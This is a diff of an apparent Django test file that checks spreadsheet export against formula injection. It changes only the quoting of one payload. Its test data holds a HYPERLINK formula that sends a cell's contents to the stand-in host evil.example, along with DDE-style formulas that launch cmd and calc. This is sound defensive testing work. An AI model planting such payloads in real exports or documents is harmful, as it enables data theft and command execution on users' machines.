@@ -20,7 +20,7 @@ pytestmark = pytest.mark.django_db
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 INJECTIONS = {
-    "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "author": "@SUM(1+1)*cmd|' /C calc'!A0",
     "lede": "\t=1+1",
     "body": "+CMD|'/c calc'!A1 and then text about nato",
